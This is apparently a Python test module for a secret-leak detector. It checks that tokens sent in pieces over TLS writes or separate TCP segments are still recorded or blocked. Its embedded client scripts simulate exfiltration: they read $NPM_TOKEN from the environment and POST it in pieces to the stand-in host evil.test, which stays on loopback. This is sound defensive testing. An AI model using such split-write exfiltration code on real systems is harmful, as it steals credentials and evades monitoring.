"""Secrets split across writes (issue #12's bypass): hostile job code that hands a token to
OpenSSL in pieces (SSL_write("npm_Q7f"), SSL_write("T2k...")) or sends it in several plain TCP
segments (TCP_NODELAY, one send() per piece) must be caught as if it had written it whole: each
connection keeps its last bytes and the kernel scans the junction with the next write. Observe
mode records it; enforce stops the write or segment that would complete it (the pieces before it
already left: they are not the secret). Unrelated writes on another connection never join.

Real clients (Python's ssl and socket) against the loopback TLS and HTTP servers of
test_secrets (a CA this test makes, a dnsmasq naming them under .test). Nothing leaves loopback.
"""
import unittest

import test_secrets as ts
from test_secrets import GHP, NPM_TOKEN

# A job's client: one request whose body carries the secret, sent in pieces.
# argv: tls|tcp, host, port, secret, cut (0: two pieces, the secret cut in its middle;
# n: n bytes a write; -1: the secret whole in one write, then a byte a write), pause between
# writes (s). Prints SENT once every piece went.
PIECES = r"""
import os, socket, ssl, sys, time
tls, host, port, secret = sys.argv[1] == "tls", sys.argv[2], int(sys.argv[3]), sys.argv[4].encode()
cut, pause = int(sys.argv[5]), float(sys.argv[6])
s = socket.create_connection((host, port))
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
if tls:
    s = ssl.create_default_context(cafile=os.environ["CA"]).wrap_socket(s, server_hostname=host)
body = b"t=" + secret + b"&end=1" + b"&pad=" + b"x" * 200
s.sendall(b"POST /up HTTP/1.1\r\nHost: %s:%d\r\nContent-Length: %d\r\n\r\n"
          % (host.encode(), port, len(body)))
time.sleep(pause)
if cut < 0:
    whole = 2 + len(secret)
    pieces = [body[:whole]] + [body[i:i + 1] for i in range(whole, len(body))]
elif cut:
    pieces = [body[i:i + cut] for i in range(0, len(body), cut)]
else:
    half = 2 + len(secret) // 2
    pieces = [body[:half], body[half:]]
for p in pieces:
    s.sendall(p)  # one SSL_write, or (TCP_NODELAY, a pause after it) one segment
    time.sleep(pause)
print("SENT", len(pieces), flush=True)
print(s.recv(100)[:12])
"""

# Two connections to the same host, the secret's halves one on each: never one secret.
APART = r"""
import os, socket, ssl, sys, time
tls, host, port, secret = sys.argv[1] == "tls", sys.argv[2], int(sys.argv[3]), sys.argv[4].encode()
conns = []
for _ in range(2):
    s = socket.create_connection((host, port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls:
        s = ssl.create_default_context(cafile=os.environ["CA"]).wrap_socket(s, server_hostname=host)
    conns.append(s)
half = len(secret) // 2
parts = [b"t=" + secret[:half], secret[half:] + b"&end=1"]
for s, part in zip(conns, parts):
    s.sendall(b"POST /up HTTP/1.1\r\nHost: %s:%d\r\nContent-Length: %d\r\n\r\n"
              % (host.encode(), port, len(part)))
    time.sleep(0.05)
for s, part in zip(conns, parts):
    s.sendall(part)
    time.sleep(0.05)
for s in conns:
    print(s.recv(100)[:12], flush=True)
print("DONE", flush=True)
"""


class SplitSecrets(ts.SecretServers):
    # test_secrets' servers and helpers, with this module's clients
    SCRIPTS = {"split": ts.SPLIT_CLIENT, "pieces": PIECES, "apart": APART}

    def send(self, proto, cut, mode, secret="$NPM_TOKEN", pause=0.05):
        port = 8443 if proto == "tls" else 8080
        return self.job(f'python3 {self.pieces} {proto} evil.test {port} "{secret}" {cut} '
                        f'{pause}; echo py=$?', mode=mode)

    def assertSplitLeak(self, run, channel, verdict, secret="NPM_TOKEN", source="env"):
        """One record, naming the secret, the destination and the writer as a whole one would,
        and saying the match began in earlier writes."""
        ev = self.leaks(run)
        self.assertEqual(len(ev), 1, run.events)
        e = ev[0]
        self.assertEqual((e["secret"], e["source"], e["channel"], e["destination"],
                          e["verdict"]), (secret, source, channel, "evil.test", verdict), e)
        self.assertEqual(e["offset"], 0, e)
        self.assertGreater(e["earlier"], 0, e)
        self.assertTrue(e["exe"].split("/")[-1].startswith("python3"), e)
        return e

    # ------------------------------------------------------------ TLS (SSL_write)

    def test_tls_two_writes_stopped(self):
        run = self.send("tls", 0, "enforce")
        self.assertIn("py=137", run.stdout, run.stderr)  # killed before the second SSL_write
        self.assertNotIn("SENT", run.stdout)
        self.assertFalse(self.srv.got(NPM_TOKEN), "the server got the secret")
        e = self.assertSplitLeak(run, "tls_write", "deny")
        self.assertTrue(e["killed"])
        self.assertEqual(e["earlier"], len(NPM_TOKEN) // 2, e)
        self.assertNowhere(run, NPM_TOKEN)

    def test_tls_two_writes_recorded_in_observe(self):
        run = self.send("tls", 0, "observe")
        self.assertIn("py=0", run.stdout, run.stderr)
        self.assertTrue(self.srv.got(NPM_TOKEN))
        self.assertSplitLeak(run, "tls_write", "audit")
        self.assertNowhere(run, NPM_TOKEN)

    def test_tls_one_byte_a_write_stopped(self):
        run = self.send("tls", 1, "enforce", pause=0.005)
        self.assertIn("py=137", run.stdout, run.stderr)
        self.assertFalse(self.srv.got(NPM_TOKEN))
        e = self.assertSplitLeak(run, "tls_write", "deny")
        self.assertEqual((e["earlier"], e["bytes"]), (len(NPM_TOKEN) - 1, 1), e)
        self.assertNowhere(run, NPM_TOKEN)

    def test_tls_format_token_in_pieces_recorded_once(self):
        """A ghp_ token the job was not given (a format match), three bytes a write: one record
        at the write that completes its shape, none for the writes after it."""
        run = self.send("tls", 3, "observe", secret=GHP, pause=0.005)
        self.assertIn("py=0", run.stdout, run.stderr)
        self.assertTrue(self.srv.got(GHP))
        self.assertSplitLeak(run, "tls_write", "audit", secret="github", source="format")
        self.assertNowhere(run, GHP)

    def test_whole_secret_then_small_writes_recorded_once(self):
        """A secret whole in one write, then 200 one-byte writes: the kept bytes hold it for
        the next writes' junctions, which must not find it again (observe records repeats at
        counts 1, 2, 4, ...: a second find would be a second record)."""
        for proto in ("tls", "tcp"):
            with self.subTest(proto=proto):
                self.srv.bodies.clear()
                port = 8443 if proto == "tls" else 8080
                run = self.job(f'python3 {self.pieces} {proto} evil.test {port} "$NPM_TOKEN" '
                               f'-1 0.002; echo py=$?', mode="observe", tag=f"out-{proto}")
                self.assertIn("py=0", run.stdout, run.stderr)
                ev = self.leaks(run)
                self.assertEqual(len(ev), 1, run.events)
                self.assertEqual((ev[0]["secret"], ev[0]["offset"]), ("NPM_TOKEN", 2), ev[0])
                self.assertNotIn("earlier", ev[0])

    # ------------------------------------------------------------ plain TCP segments

    def test_tcp_two_segments_dropped(self):
        run = self.send("tcp", 0, "enforce")
        # send() only queues: the segment is dropped on its way out, the connection reset
        self.assertNotIn("py=0", run.stdout, run.stderr)
        self.assertFalse(self.srv.got(NPM_TOKEN), "the server got the secret")
        e = self.assertSplitLeak(run, "plain_tcp", "deny")
        self.assertTrue(e["dropped"])
        self.assertEqual(e["earlier"], len(NPM_TOKEN) // 2, e)
        self.assertNowhere(run, NPM_TOKEN)

    def test_tcp_one_byte_a_segment_recorded_in_observe(self):
        run = self.send("tcp", 1, "observe", pause=0.01)
        self.assertIn("py=0", run.stdout, run.stderr)
        self.assertTrue(self.srv.got(NPM_TOKEN))
        e = self.assertSplitLeak(run, "plain_tcp", "audit")
        self.assertEqual(e["earlier"], len(NPM_TOKEN) - 1, e)
        self.assertNowhere(run, NPM_TOKEN)

    def test_tcp_one_byte_a_segment_dropped(self):
        run = self.send("tcp", 1, "enforce", pause=0.01)
        self.assertNotIn("py=0", run.stdout, run.stderr)
        self.assertFalse(self.srv.got(NPM_TOKEN))
        e = self.assertSplitLeak(run, "plain_tcp", "deny")
        self.assertTrue(e["dropped"])
        self.assertNowhere(run, NPM_TOKEN)

    # ------------------------------------------------------------ never across connections

    def test_halves_on_two_connections_do_not_join(self):
        for proto, port in (("tls", 8443), ("tcp", 8080)):
            with self.subTest(proto=proto):
                self.srv.bodies.clear()
                run = self.job(f'python3 {self.apart} {proto} evil.test {port} "$NPM_TOKEN"; '
                               'echo py=$?', mode="observe", tag=f"out-{proto}")
                self.assertIn("DONE", run.stdout, run.stderr)
                self.assertEqual(len(self.srv.bodies), 2, run.stdout)
                self.assertEqual(self.leaks(run), [], run.events)


if __name__ == "__main__":
    unittest.main()
